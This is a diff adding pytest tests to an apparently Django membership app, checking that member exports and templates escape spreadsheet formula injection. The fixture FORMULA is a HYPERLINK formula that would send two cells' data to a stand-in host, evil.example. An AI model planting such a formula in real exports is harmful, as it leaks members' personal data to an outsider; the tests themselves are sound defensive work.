@@ -216,3 +216,51 @@ def test_admin_list_of_a_staff_user_keeps_to_their_scope(tree, secretary_a, clie
     client.force_login(secretary_a)
     response = client.get(reverse("admin:members_member_changelist"))
     assert list(response.context["cl"].result_list) == [mine]
+
+
+# Formula injection (issue 12 item 5): exported text a spreadsheet would evaluate is escaped --------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&E2&G2,"详情")'
+
+
+def _cells(source) -> list[list]:
+    """Every cell of the first sheet, loaded in full so that a formula keeps its data type "f"."""
+    from openpyxl import load_workbook
+
+    return [list(row) for row in load_workbook(source).worksheets[0].iter_rows()]
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(tree, orgdept):
+    import io
+
+    MemberFactory(branch=tree.branch_a, name=FORMULA)
+    out = io.BytesIO()
+    export_members(out, user=orgdept)
+    out.seek(0)
+    header, row = _cells(out)
+    assert (row[0].value, row[0].data_type) == ("'" + FORMULA, "s")
+    assert not [cell for cell in header + row if cell.data_type == "f"]
+
+
+def test_the_admins_export_escapes_formula_looking_text(tree):
+    from members.resources import MemberResource
+
+    MemberFactory(branch=tree.branch_a, name="@SUM(A1:A9)")
+    dataset = MemberResource(user=None).export()
+    assert dataset.dict[0]["姓名"] == "'@SUM(A1:A9)"
+
+
+def test_the_templates_hold_no_formula(tree, login_as, tmp_path):
+    from members.exporting import write_template
+
+    path = tmp_path / "template.xlsx"
+    write_template(path)
+    response = login_as("secretary_a").get(reverse("members:dues_import_template"))
+    for source in (path, io_of(response.content)):
+        assert not [cell for row in _cells(source) for cell in row if cell.data_type == "f"]
+
+
+def io_of(content: bytes):
+    import io
+
+    return io.BytesIO(content)
